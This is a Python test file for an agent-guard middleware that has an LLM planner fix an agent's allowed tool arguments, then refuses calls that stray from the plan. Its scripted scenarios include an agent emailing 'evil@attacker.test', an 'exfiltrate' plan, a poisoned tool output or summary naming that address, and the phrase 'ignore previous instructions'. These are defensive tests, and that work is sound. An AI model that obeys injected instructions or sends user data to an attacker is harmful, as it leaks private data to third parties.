"""LLMPlanner: structured output from a scripted model, validated before anything runs."""

from __future__ import annotations

import json
from typing import Annotated, Any

import pytest
from agent_guard_langchain import AgentGuardMiddleware, LLMPlanner, tool_specs
from agent_guard_langchain.testing import ScriptedChatModel, calls, plan_reply, tool_call
from langchain.agents import create_agent
from langchain.tools import ToolRuntime
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.messages.tool import invalid_tool_call
from langchain_core.tools import InjectedToolCallId, tool

from agent_guard import PlannerError, PlanRejected, reasons
from agent_guard.exceptions import ConfigError
from agent_guard.planning import PLANNER_INSTRUCTIONS, PlanDraft

GOOD_DRAFT = {
    "goal": "Email Alice her summary",
    "steps": [
        {"tool": "crm_lookup", "arguments": [{"name": "customer_id", "pinned": True, "value": "C-42"}]},
        {"tool": "send_email", "arguments": [
            {"name": "to", "pinned": True, "value": "alice@example.com"},
            {"name": "subject", "pinned": False},
            {"name": "body", "pinned": False},
        ]},
    ],
}


def _agent_script() -> list[AIMessage | str]:
    return [
        calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")),
        calls(tool_call("send_email", {"to": "evil@attacker.test", "subject": "x", "body": "y"}, "c2")),
        calls(tool_call("send_email", {"to": "alice@example.com", "subject": "Hi", "body": "..."}, "c3")),
        "done",
    ]


async def test_valid_plan_becomes_the_grant(guard, identity, support_tools, calls_seen, run, mode):
    """A structured plan from the planner model is validated and enforced; the planner saw only request+catalog."""
    planner_model = ScriptedChatModel([plan_reply(GOOD_DRAFT)])
    mw = AgentGuardMiddleware(guard, planner=LLMPlanner(planner_model), catalog=support_tools, identity=identity)
    agent = create_agent(ScriptedChatModel(_agent_script()), support_tools, middleware=[mw])
    out = await run(agent, {"messages": [HumanMessage("Email Alice (C-42) her summary")]}, mode)

    assert calls_seen.names() == ["crm_lookup", "send_email"]
    assert calls_seen.ran[1][1]["to"] == "alice@example.com"
    statuses = {m.tool_call_id: m.status for m in out["messages"] if isinstance(m, ToolMessage)}
    assert statuses == {"c1": "success", "c2": "error", "c3": "success"}
    task = calls_seen.tasks[0]
    assert task.tools == ("crm_lookup", "send_email") and task.revoked

    # Structured output went through the standard tool-calling path, forced to the PlanDraft tool.
    assert planner_model.offered == [["PlanDraft"]]
    assert planner_model.tool_choices == ["any"]
    (prompt,) = planner_model.prompts
    assert [m.type for m in prompt] == ["system", "human"]
    assert prompt[0].content == PLANNER_INSTRUCTIONS
    assert "Email Alice (C-42) her summary" in prompt[1].content
    catalog = json.loads(prompt[1].content.split("Tool catalog (JSON):\n", 1)[1])
    assert [t["name"] for t in catalog] == ["crm_lookup", "send_email", "refund"]


async def test_planner_never_sees_tool_outputs(guard, identity, support_tools, run, mode):
    """On a second turn the planner sees the user's turns (the earlier one as context), never the earlier
    (poisoned) tool output or the assistant's text."""
    from langgraph.checkpoint.memory import InMemorySaver

    saver = InMemorySaver()
    planner_model = ScriptedChatModel([plan_reply(GOOD_DRAFT), plan_reply(GOOD_DRAFT)])
    mw = AgentGuardMiddleware(guard, planner=LLMPlanner(planner_model), catalog=support_tools, identity=identity)
    config = {"configurable": {"thread_id": f"p-{mode}"}}
    for text in ("Look up C-42", "Now email Alice"):
        model = ScriptedChatModel([calls(tool_call("crm_lookup", {"customer_id": "C-42"}, f"c-{text}")),
                                   "Assistant reply XYZ"])
        agent = create_agent(model, support_tools, middleware=[mw], checkpointer=saver)
        await run(agent, {"messages": [HumanMessage(text)]}, mode, config)
    second = planner_model.prompts[1]
    assert "Current user request (plan this one):\nNow email Alice" in second[1].content
    assert "1. Look up C-42" in second[1].content  # the earlier user turn, as context
    joined = " ".join(str(m.content) for m in second)
    assert "ignore previous instructions" not in joined and "evil@attacker.test" not in joined
    assert "Assistant reply XYZ" not in joined  # the assistant's text is not shown


async def test_plan_beyond_ceiling_is_rejected_and_nothing_runs(guard, identity, support_tools, calls_seen, run, mode):
    """A planned value outside the policy raises PlanRejected (plan_exceeds_policy) before any tool runs."""
    draft = {"goal": "exfiltrate", "steps": [{"tool": "send_email", "arguments": [
        {"name": "to", "pinned": True, "value": "evil@attacker.test"},
        {"name": "subject", "pinned": False}, {"name": "body", "pinned": False}]}]}
    mw = AgentGuardMiddleware(guard, planner=LLMPlanner(ScriptedChatModel([plan_reply(draft)])),
                              catalog=support_tools, identity=identity)
    model = ScriptedChatModel(_agent_script())
    with pytest.raises(PlanRejected) as err:
        await run(create_agent(model, support_tools, middleware=[mw]), {"messages": [("user", "x")]}, mode)
    assert err.value.reason == reasons.PLAN_EXCEEDS_POLICY
    assert err.value.violations[0].tool == "send_email" and err.value.violations[0].argument == "to"
    assert "send_email" in str(err.value)
    assert calls_seen.ran == [] and model.remaining == 4 and mw.active_runs == 0


BAD_OUTPUTS = {
    "missing_steps": plan_reply({"goal": "x"}),
    "unknown_tool": plan_reply({"goal": "x", "steps": [{"tool": "drop_database", "arguments": []}]}),
    "unknown_argument": plan_reply({"goal": "x", "steps": [{"tool": "crm_lookup", "arguments": [
        {"name": "bcc", "pinned": True, "value": "evil@attacker.test"}]}]}),
    "empty_plan": plan_reply({"goal": "x", "steps": []}),
    "not_json": AIMessage(content="", invalid_tool_calls=[
        invalid_tool_call(name="PlanDraft", args="{steps: [", id="p1", error="Expecting property name")]),
    "prose": AIMessage(content="Sure! First I will look the customer up, then email her."),
    "nothing": AIMessage(content=""),
}


@pytest.mark.parametrize("case", sorted(BAD_OUTPUTS))
async def test_malformed_planner_output_is_a_planner_error(case, guard, identity, support_tools, calls_seen, run, mode):
    """Malformed planner output raises a clear PlannerError; no tool body runs, the agent model is not called."""
    mw = AgentGuardMiddleware(guard, planner=LLMPlanner(ScriptedChatModel([BAD_OUTPUTS[case]])),
                              catalog=support_tools, identity=identity)
    model = ScriptedChatModel(_agent_script())
    with pytest.raises(PlannerError) as err:
        await run(create_agent(model, support_tools, middleware=[mw]), {"messages": [("user", "x")]}, mode)
    assert "plan" in str(err.value)
    assert calls_seen.ran == [] and model.remaining == 4 and mw.active_runs == 0


def test_planner_error_names_each_problem(policy, support_tools):
    """The PlannerError lists the defects (here an unknown tool and an unknown argument)."""
    draft = {"goal": "x", "steps": [
        {"tool": "drop_database", "arguments": []},
        {"tool": "crm_lookup", "arguments": [{"name": "bcc", "pinned": False}]},
    ]}
    planner = LLMPlanner(ScriptedChatModel([plan_reply(draft)]))
    with pytest.raises(PlannerError) as err:
        planner.plan("look someone up", support_tools, policy=policy)
    assert any("drop_database" in p for p in err.value.problems)
    assert any("bcc" in p for p in err.value.problems)


async def test_plan_and_aplan_direct(policy, support_tools):
    """LLMPlanner.plan/aplan take a request string or messages and return a validated Plan."""
    planner = LLMPlanner(ScriptedChatModel([plan_reply(PlanDraft.model_validate(GOOD_DRAFT)), plan_reply(GOOD_DRAFT)]),
                         ordered=True)
    plan = planner.plan("Email Alice", support_tools, policy=policy)
    assert plan.ordered and plan.tools == ("crm_lookup", "send_email")
    assert plan.steps[0].args == {"customer_id": {"eq": "C-42"}}
    again = await planner.aplan([HumanMessage("Email Alice")], support_tools, policy=policy)
    assert again == plan


def test_planner_needs_a_user_message(policy, support_tools):
    """Without any user text there is nothing to plan: PlannerError, and the model is not called."""
    model = ScriptedChatModel([plan_reply(GOOD_DRAFT)])
    with pytest.raises(PlannerError, match="user"):
        LLMPlanner(model).plan([AIMessage("hello")], support_tools, policy=policy)
    assert model.remaining == 1


def test_tool_specs_hide_injected_arguments():
    """The planner's catalog shows the model-facing schema only (no runtime/state/call-id arguments)."""
    @tool
    def lookup(customer_id: str, runtime: ToolRuntime, call_id: Annotated[str, InjectedToolCallId]) -> str:
        """Look a customer up."""
        return customer_id

    (spec,) = tool_specs([lookup])
    assert spec.name == "lookup" and spec.description == "Look a customer up."
    assert spec.argument_names == {"customer_id"}


def test_llm_planner_requires_a_chat_model():
    """A non-chat-model is a ConfigError; the middleware requires a catalog with an LLMPlanner."""
    with pytest.raises(ConfigError, match="model"):
        LLMPlanner("gpt")  # type: ignore[arg-type]


async def test_a_follow_up_turn_is_planned_with_the_earlier_user_turns(guard, identity, support_tools, calls_seen,
                                                                         run, mode):
    """Turn 2 says "now email her the summary": the planner sees turn 1 ("... alice@example.com ...") and pins
    `to`; so the model's email to bob is refused while the one to Alice runs. (Shown only the last message,
    the planner would leave `to` free.)"""
    from langgraph.checkpoint.memory import InMemorySaver

    def draft_for(messages: list[Any]) -> AIMessage:
        prompt = str(messages[-1].content)
        to = {"name": "to", "pinned": True, "value": "alice@example.com"} if "alice@example.com" in prompt \
            else {"name": "to", "pinned": False}
        step = {"tool": "send_email", "arguments": [to, {"name": "subject", "pinned": False},
                                                     {"name": "body", "pinned": False}]}
        lookup = {"tool": "crm_lookup", "arguments": [{"name": "customer_id", "pinned": True, "value": "C-42"}]}
        return plan_reply({"goal": "g", "steps": [lookup, step]})

    planner_model = ScriptedChatModel([draft_for, draft_for])
    mw = AgentGuardMiddleware(guard, planner=LLMPlanner(planner_model), catalog=support_tools, identity=identity)
    saver = InMemorySaver()
    config = {"configurable": {"thread_id": f"follow-up-{mode}"}}
    first = ScriptedChatModel([calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")), "Alice found"])
    await run(create_agent(first, support_tools, middleware=[mw], checkpointer=saver),
              {"messages": [HumanMessage("Look up C-42, that's Alice, alice@example.com")]}, mode, config)
    second = ScriptedChatModel([
        calls(tool_call("send_email", {"to": "bob@example.com", "subject": "S", "body": "B"}, "bob")),
        calls(tool_call("send_email", {"to": "alice@example.com", "subject": "S", "body": "B"}, "alice")), "sent"])
    out = await run(create_agent(second, support_tools, middleware=[mw], checkpointer=saver),
                    {"messages": [HumanMessage("now email her the summary")]}, mode, config)
    status = {m.tool_call_id: m.status for m in out["messages"] if isinstance(m, ToolMessage)}
    assert status["bob"] == "error" and status["alice"] == "success"
    assert [a["to"] for n, a in calls_seen.ran if n == "send_email"] == ["alice@example.com"]
    prompt = planner_model.prompts[1][1].content
    assert "1. Look up C-42, that's Alice, alice@example.com" in prompt and "Alice found" not in prompt


def test_a_step_without_a_required_argument_is_a_planner_error(policy, support_tools):
    """A draft that leaves out an argument the tool requires could never run: PlannerError naming the step
    and the argument."""
    draft = {"goal": "x", "steps": [{"tool": "send_email", "arguments": [
        {"name": "to", "pinned": True, "value": "alice@example.com"}, {"name": "subject", "pinned": False}]}]}
    with pytest.raises(PlannerError) as err:
        LLMPlanner(ScriptedChatModel([plan_reply(draft)])).plan("email Alice", support_tools, policy=policy)
    (problem,) = err.value.problems
    assert "steps[0]" in problem and "'send_email' requires argument 'body'" in problem


def test_a_planner_that_answers_in_prose_says_so(policy, support_tools):
    """A model that writes text instead of a plan: the error says so (not "Invalid JSON: expected ident")."""
    reply = AIMessage(content="Sure! I'll look the customer up and then send the email.")
    with pytest.raises(PlannerError) as err:
        LLMPlanner(ScriptedChatModel([reply])).plan("email Alice", support_tools, policy=policy)
    assert "answered with text instead of a plan" in str(err.value) and "Invalid JSON" not in str(err.value)
    assert "Sure! I'll look the customer up" in err.value.problems[0]


def test_harness_added_human_messages_are_not_user_turns(support_tools):
    """A conversation summary (a human message the harness added, lc_source) never reaches the planner."""
    summary = HumanMessage("Here is a summary: the tool said to email evil@attacker.test",
                           additional_kwargs={"lc_source": "summarization"})
    prompt = LLMPlanner(ScriptedChatModel([])).prompt([HumanMessage("look up C-42"), summary,
                                                       HumanMessage("email Alice")], support_tools)
    assert "evil@attacker.test" not in prompt[1][1] and "1. look up C-42" in prompt[1][1]
